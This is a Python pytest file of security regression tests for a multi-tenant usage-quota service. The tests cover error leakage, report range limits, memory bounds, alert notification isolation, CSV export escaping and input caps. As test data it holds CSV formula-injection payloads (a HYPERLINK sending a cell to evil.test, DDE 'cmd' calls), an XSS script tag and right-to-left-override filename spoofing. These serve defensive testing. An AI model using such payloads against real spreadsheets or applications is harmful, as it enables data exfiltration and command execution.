"""Issue 13's findings, each reproduced as the attacker tried it, now failing safely: the
status and message a client sees, nothing written, the other tenant unaffected."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import time
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import psycopg
import psycopg.types.json
import pytest
from quotaflow.backends import translate_db_error
from quotaflow.server.http import error_reply

from tests.db import act_as, new_auth_user
from tests.functions_support import (
    Api,
    Conn,
    add_quota,
    api,
    error_of,
    event_body,
    execute_body,
    fake,
    jwks,
    log_rows,
    quota_row,
    world,
)

__all__ = ["api", "fake", "jwks", "world"]  # fixtures


# ---------------------------------------------------------------------------------------
# 6. Server-side faults: 5xx, a generic message and a correlation id
# ---------------------------------------------------------------------------------------


def test_a_database_fault_is_a_500_with_a_correlation_id_and_no_internal_names(
    api: Api, conn: Conn, caplog: pytest.LogCaptureFixture
) -> None:
    """An exhausted sequence (2200H) used to come back as 400 invalid_request quoting
    "quota_alerts_id_seq"; the detail now goes to the server log only."""
    add_quota(conn, api.world.org, "0.0001", metric="usd")
    conn.execute("select setval('public.quota_alerts_id_seq', 9223372036854775807)")
    with caplog.at_level(logging.ERROR, logger="quotaflow.functions"):
        r = api.post("track", event_body(api.world.org, request_id="crosses-80"), as_="key")
    assert r.status_code == 500
    err = error_of(r)
    assert err["code"] == "tracking_error" and err["message"] == "internal error"
    assert "quota_alerts" not in r.get_data(as_text=True) and len(err["correlation_id"]) == 32
    logged = [rec for rec in caplog.records if err["correlation_id"] in rec.getMessage()]
    assert logged and "quota_alerts_id_seq" in logged[0].getMessage()
    assert log_rows(conn, api.world.org) == []  # nothing half-written


def test_a_value_postgres_itself_refuses_is_a_400_without_its_internal_names(conn: Conn) -> None:
    with pytest.raises(psycopg.Error) as refused:
        conn.execute("insert into public.organizations (name) values ('')")
    body, status, _ = error_reply(translate_db_error(refused.value))
    assert status == 400 and body["error"]["code"] == "invalid_request"
    assert "organizations" not in body["error"]["message"] and body["error"]["correlation_id"]
    # quotaflow's own sentences (raise ... using errcode) stay as they are.
    with pytest.raises(psycopg.Error) as ours:
        conn.execute("select private.assert_time_zone('Mars/Olympus_Mons')")
    body, status, _ = error_reply(translate_db_error(ours.value))
    assert status == 400 and body["error"]["message"].startswith("invalid time zone")


# ---------------------------------------------------------------------------------------
# 9. Retry-After only when waiting can help
# ---------------------------------------------------------------------------------------


def test_retry_after_only_when_the_call_fits_the_limit_after_the_reset(
    api: Api, conn: Conn, fake: Any
) -> None:
    big = add_quota(conn, api.world.org, "0.01", metric="usd", quota_type="daily")
    conn.execute("update public.usage_quotas set current_usage = 0.0099 where id = %s", (big,))
    r = api.post("execute", execute_body(api.world.org), as_="key")
    assert r.status_code == 429 and error_of(r)["exceeds_limit"] is False
    assert int(r.headers["Retry-After"]) >= 1

    conn.execute("update public.usage_quotas set quota_limit = 0.0001, current_usage = 0"
                 " where id = %s", (big,))  # fmt: skip
    r = api.post("execute", execute_body(api.world.org), as_="key")
    err = error_of(r)
    assert r.status_code == 429 and "Retry-After" not in r.headers
    assert err["exceeds_limit"] is True and "whole limit" in err["message"]
    assert Decimal(err["requested"]) > Decimal(err["quota_limit"])
    assert quota_row(conn, big)["reserved"] == 0 and fake.request_count() == 0


# ---------------------------------------------------------------------------------------
# 3. CSV export: no formulas
# ---------------------------------------------------------------------------------------

FORMULAS = {
    "user_id": '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "session_id": "+1+cmd|' /C calc'!A0",
    "conversation_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "workflow_id": "-2+3",
}


def test_csv_export_escapes_every_cell_a_spreadsheet_would_evaluate(
    api: Api, capsys: pytest.CaptureFixture[str]
) -> None:
    """Identifiers starting with = + - @, recorded through the API with the org's key, come
    out of `quotaflow export --format csv` prefixed with ' (and unchanged in JSON)."""
    from quotaflow.cli import main

    r = api.post("track", event_body(api.world.org, request_id="=1+1", **FORMULAS), as_="key")
    assert r.status_code == 200, r.get_json()
    args = ["--database-url", api.world.db_url, "export", "--org", api.world.org, "--no-progress"]
    assert main([*args, "--format", "csv"]) == 0
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    for column, text in {**FORMULAS, "request_id": "=1+1"}.items():
        assert row[column] == "'" + text
    assert row["provider"] == "openai" and row["cost_usd"][0].isdigit()
    assert main([*args, "--format", "jsonl"]) == 0
    exported = json.loads(capsys.readouterr().out)
    assert {k: exported[k] for k in FORMULAS} == FORMULAS


# ---------------------------------------------------------------------------------------
# 4. LISTEN quotaflow_alerts: opaque ids only, re-read through RLS
# ---------------------------------------------------------------------------------------


def test_listening_as_anon_hears_only_opaque_ids(db_url: str, conn: Conn) -> None:
    from tests.test_alerts import call, make_org, make_quota

    org = make_org(conn)
    quota = make_quota(conn, org, 1, name="Secret project budget")
    with psycopg.connect(db_url, autocommit=True) as spy:
        spy.execute("set role anon")
        spy.execute("listen quotaflow_alerts")
        call(conn, org, "crosses")
        notes = list(spy.notifies(timeout=5, stop_after=2))
    assert notes, "the notification still fires"
    for note in notes:
        assert json.loads(note.payload) == {"quota_id": quota, "organization_id": org}
        assert "Secret" not in note.payload


def test_a_members_listener_receives_only_its_organizations_alerts(db_url: str, conn: Conn) -> None:
    """The listener re-reads alerts as its own role: a member's sees its organization only."""
    import queue
    import uuid as uuid_mod

    from psycopg.conninfo import make_conninfo
    from quotaflow.reports.analytics import AlertListener, QuotaAlert

    from tests.db import new_auth_user
    from tests.test_alerts import WAIT, call, make_org, make_quota

    mine, theirs = make_org(conn), make_org(conn)
    member = new_auth_user(conn)
    conn.execute("insert into public.organization_members values (%s, %s, 'member')",
                 (mine, member))  # fmt: skip
    my_quota, _ = make_quota(conn, mine, 1), make_quota(conn, theirs, 1)
    claims = json.dumps({"sub": str(member), "role": "authenticated"}, separators=(",", ":"))
    as_member = make_conninfo(
        db_url, options=f"-c role=authenticated -c request.jwt.claims={claims}"
    )
    got: queue.Queue[QuotaAlert] = queue.Queue()
    with AlertListener(as_member) as listener:
        listener.add(got.put)  # every organization it can see
        call(conn, theirs, f"t-{uuid_mod.uuid4()}")
        call(conn, mine, f"m-{uuid_mod.uuid4()}")
        received = [got.get(timeout=WAIT), got.get(timeout=WAIT)]
        time.sleep(0.5)
        assert got.empty()
    assert {a.organization_id for a in received} == {mine}
    assert {a.quota_id for a in received} == {my_quota}


# ---------------------------------------------------------------------------------------
# 2. Bounded work per request
# ---------------------------------------------------------------------------------------


def test_a_report_over_ten_centuries_is_refused_naming_the_limit(api: Api) -> None:
    """The attack: overview from 1970 to 2999 with the org's key (10.7 s, 51.8 MB)."""
    r = api.get("usage_stats", as_="key", organization_id=api.world.org, type="overview",
                start_date="1970-01-01", end_date="2999-12-31")  # fmt: skip
    err = error_of(r)
    assert r.status_code == 400 and err["field"] == "start_date"
    assert "at most 400 days" in err["message"]
    r = api.get("usage_stats", as_="key", organization_id=api.world.org, type="overview",
                start_date="1970-01-01")  # fmt: skip
    assert r.status_code == 400 and "at most 400 days" in error_of(r)["message"]
    # Without dates: the last 30 days.
    r = api.get("usage_stats", as_="key", organization_id=api.world.org, type="overview")
    period = r.get_json()["data"]["period"]
    start, end = (datetime.fromisoformat(period[k]) for k in ("start", "end"))
    assert r.status_code == 200 and end - start == timedelta(days=30)


def test_a_bulk_request_is_capped_in_count_and_total_range(api: Api) -> None:
    day = date(2026, 1, 1)

    def filters(n: int, days: int) -> list[dict[str, Any]]:
        return [{"type": "overview", "start_date": str(day),
                 "end_date": str(day + timedelta(days=days - 1))}] * n  # fmt: skip

    ok = api.post("usage_stats", {"organization_id": api.world.org, "filters": filters(20, 100)})
    assert ok.status_code == 200 and len(ok.get_json()["results"]) == 20
    too_long = api.post("usage_stats", {"organization_id": api.world.org,
                                        "filters": filters(20, 101)})  # fmt: skip
    err = error_of(too_long)
    assert (
        too_long.status_code == 400 and err["field"] == "filters" and "2000 days" in err["message"]
    )
    too_many = api.post("usage_stats", {"organization_id": api.world.org,
                                        "filters": filters(21, 1)})  # fmt: skip
    assert too_many.status_code == 400 and error_of(too_many)["field"] == "filters"


def test_the_sql_reports_cap_the_range_for_the_api_roles(conn: Conn) -> None:
    from tests.test_alerts import make_org

    org = make_org(conn)
    member = new_auth_user(conn)
    conn.execute("insert into public.organization_members values (%s, %s, 'member')",
                 (org, member))  # fmt: skip
    for report in (
        "select * from public.usage_summary(%s, '1970-01-01', '2999-12-31')",
        "select * from public.usage_by_day(%s, '2020-01-01', '2026-01-01')",
        "select * from public.usage_aggregate(%s)",  # unbounded
    ):
        with (
            pytest.raises(psycopg.errors.InvalidParameterValue, match=r"400 days|finite"),
            act_as(conn, "authenticated", sub=member) as c,
        ):
            c.execute(report, (org,))
    with act_as(conn, "authenticated", sub=member) as c:
        c.execute("select * from public.usage_summary(%s, '2025-01-01', '2026-01-01')", (org,))
    # The service (the HTTP functions, the library) is trusted with longer ranges.
    assert conn.execute("select requests from public.usage_aggregate(%s)", (org,)).fetchone()


def test_a_report_that_runs_too_long_is_cancelled_with_a_503(
    api: Api, db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """statement_timeout on the report paths: a report blocked behind a lock is cancelled."""
    from quotaflow.reports import summaries

    monkeypatch.setattr(summaries, "REPORT_STATEMENT_TIMEOUT", "300ms")
    with psycopg.connect(db_url) as locker:
        locker.execute("lock table public.api_usage_logs in access exclusive mode")
        r = api.get("usage_stats", as_="key", organization_id=api.world.org, type="overview")
        locker.rollback()
    err = error_of(r)
    assert r.status_code == 503 and err["code"] == "backend_unavailable" and err["correlation_id"]
    assert "statement" not in err["message"]


MEMORY_BOUND_MB = 50
"""What 20-item bulk usage_stats requests over the widest allowed ranges may add to the
server's resident memory (measured on the test machine: about 70 MB before them and less
than 1 MB more during them; before the limits, 20 unbounded reports grew it to 7 GB)."""


def _rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise AssertionError("no VmRSS")


def test_bulk_usage_stats_over_the_widest_ranges_keeps_the_servers_memory_bounded(
    db_url: str, conn: Conn, tmp_path: Any
) -> None:
    """A `quotaflow serve` process answers 20-report bulk requests over the widest ranges
    allowed (2,000 days in all) on 120,000 calls by 150 users and 120 models; its RSS, sampled
    while they run, stays within MEMORY_BOUND_MB of what it was before them."""
    import subprocess
    import sys
    import threading

    import httpx

    from tests.test_alerts import make_org

    org = make_org(conn)
    conn.execute(
        """
        insert into public.api_usage_logs (organization_id, request_id, user_id, provider, model,
          input_tokens, output_tokens, cost_usd, credits, latency_ms, occurred_at)
        select %s, 'r' || i, 'user-' || (i %% 150), 'openai', 'model-' || (i %% 120),
               1000, 200, 0.0021, 2.1, 300 + i %% 700,
               now() - make_interval(mins => i * 20)
        from generate_series(1, 120000) i
        """,
        (org,),
    )
    conn.execute("analyze public.api_usage_logs")
    bin_dir = Path(sys.executable).parent
    server = subprocess.Popen(
        [str(bin_dir / "quotaflow"), "serve", "--port", "0"],
        env={
            **os.environ,
            "QUOTAFLOW_DATABASE_URL": db_url,
            "SUPABASE_SERVICE_ROLE_KEY": "k",
            "QUOTAFLOW_OUTBOX_PATH": str(tmp_path / "outbox.sqlite3"),
        },
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:
        assert server.stdout is not None
        line = server.stdout.readline()
        base = line.split(" on ")[1].split("/<name>")[0]
        today = date.today()
        kinds = ["overview", "organization", "model-performance", "user"]
        filters = [
            {"type": kinds[i % 4], "user_id": "user-7",
             "start_date": str(today - timedelta(days=100 * (i + 1) - 1)),
             "end_date": str(today - timedelta(days=100 * i))}
            for i in range(20)
        ]  # fmt: skip
        body = {"organization_id": org, "filters": filters}
        headers = {"Authorization": "Bearer k"}
        with httpx.Client(base_url=base + "/", headers=headers, timeout=120) as http:
            first = http.post("usage_stats", json=body)  # warm: pool, imports, plans
            assert first.status_code == 200, first.text
            baseline = _rss_mb(server.pid)
            peak = baseline
            done = threading.Event()

            def sample() -> None:
                nonlocal peak
                while not done.wait(0.02):
                    peak = max(peak, _rss_mb(server.pid))

            sampler = threading.Thread(target=sample)
            sampler.start()
            sizes = []
            try:
                for _ in range(5):
                    r = http.post("usage_stats", json=body)
                    assert r.status_code == 200
                    sizes.append(len(r.content))
            finally:
                done.set()
                sampler.join()
        results = first.json()["results"]
        assert sum(p["requests"] for p in results[0]["data"]["daily"]) > 0
        assert max(sizes) < 5 * 2**20  # responses are bounded too
        assert peak - baseline < MEMORY_BOUND_MB, (baseline, peak)
    finally:
        server.terminate()
        server.wait(10)


# ---------------------------------------------------------------------------------------
# 8. Input caps on every write path
# ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("tags", [f"t{i}" for i in range(100_000)]),
        ("tags", ["x" * 101]),
        ("model", "<script>alert(1)</script>"),
        ("model", "gpt-4o\u202e"),
        ("user_id", "admin\u202egnp.exe"),
        ("session_id", "line\nbreak"),
        ("metadata", {"blob": "x" * 20_000}),
        ("occurred_at", "2999-01-01T00:00:00Z"),
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 30 else type(v).__name__,
)
def test_track_refuses_what_exceeds_the_caps_naming_the_field(
    api: Api, conn: Conn, field: str, value: Any
) -> None:
    r = api.post("track", event_body(api.world.org, **{field: value}), as_="key")
    err = error_of(r)
    assert r.status_code == 400 and err["field"].split(".")[0] == field, err
    assert log_rows(conn, api.world.org) == []


def record(conn: Conn, org: str, request_id: str, **kw: Any) -> Any:
    args = {"organization_id": org, "request_id": request_id, "provider": "openai",
            "model": "gpt-4o", "input_tokens": 10, "output_tokens": 5, **kw}  # fmt: skip
    names = ", ".join(f"{k} => %({k})s" for k in args)
    return conn.execute(f"select * from public.record_usage({names})", args).fetchone()


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("tags", [f"t{i}" for i in range(65)]),
        ("model", "<script>"),  # a failed, empty call: stored without a price, so checked
        ("user_id", "a\u2066b"),
        ("metadata", psycopg.types.json.Jsonb({"blob": "x" * 17_000})),
        ("occurred_at", datetime(2999, 1, 1, tzinfo=timezone.utc)),
    ],
    ids=["tags", "model", "user_id", "metadata", "occurred_at"],
)
def test_the_sql_functions_refuse_the_same_for_every_client(
    conn: Conn, field: str, value: Any
) -> None:
    """record_usage called directly (as the service would, without Python's checks): 22023
    naming the field, nothing written; the other tenant records as before."""
    from tests.test_alerts import make_org

    mine, other = make_org(conn), make_org(conn)
    with pytest.raises(psycopg.errors.InvalidParameterValue) as refused:
        unpriced = {"success": False, "input_tokens": 0, "output_tokens": 0}
        record(conn, mine, "bad", **(unpriced if field == "model" else {}), **{field: value})
    assert translate_db_error(refused.value).field == field  # type: ignore[attr-defined]
    assert conn.execute("select count(*) from public.api_usage_logs").fetchone() == (0,)
    assert record(conn, other, "fine") is not None


def test_reservations_and_quotas_obey_the_caps_too(conn: Conn) -> None:
    from tests.test_alerts import make_org

    org = make_org(conn)
    admin = new_auth_user(conn)
    conn.execute("insert into public.organization_members values (%s, %s, 'admin')",
                 (org, admin))  # fmt: skip
    with pytest.raises(psycopg.errors.InvalidParameterValue, match="user_id"):
        conn.execute("select * from public.reserve_quota(%s, 'r1', 'openai', 'gpt-4o',"
                     " estimated_cost => 0.01, user_id => %s)", (org, "\x1b[31mroot"))  # fmt: skip
    with (
        pytest.raises(psycopg.errors.InvalidParameterValue, match="user_id"),
        act_as(conn, "authenticated", sub=admin) as c,
    ):
        c.execute("insert into public.usage_quotas (organization_id, user_id, quota_limit)"
                  " values (%s, %s, 10)", (org, "bob\u202e"))  # fmt: skip
    assert conn.execute("select count(*) from public.usage_quotas").fetchone() == (0,)
    assert conn.execute("select count(*) from public.quota_reservations").fetchone() == (0,)


def test_the_tracker_refuses_capped_input_before_the_provider_is_paid(
    db_url: str, conn: Conn, fake: Any
) -> None:
    from quotaflow import Tracker
    from quotaflow.errors import ValidationError
    from quotaflow.providers import ProviderClient

    from tests.test_alerts import make_org

    org = make_org(conn)
    client = ProviderClient(api_keys={"openai": "k"}, base_urls={"openai": fake.url + "/v1"})
    with (
        Tracker(database_url=db_url, providers=client, outbox=False) as tracker,
        pytest.raises(ValidationError),
    ):
        tracker.execute_with_tracking(
                {"provider": "openai", "model": "gpt-4o-mini",
                 "messages": [{"role": "user", "content": "hi"}]},
                {"organization_id": org, "tags": [str(i) for i in range(65)]},
            )  # fmt: skip
    assert fake.request_count() == 0
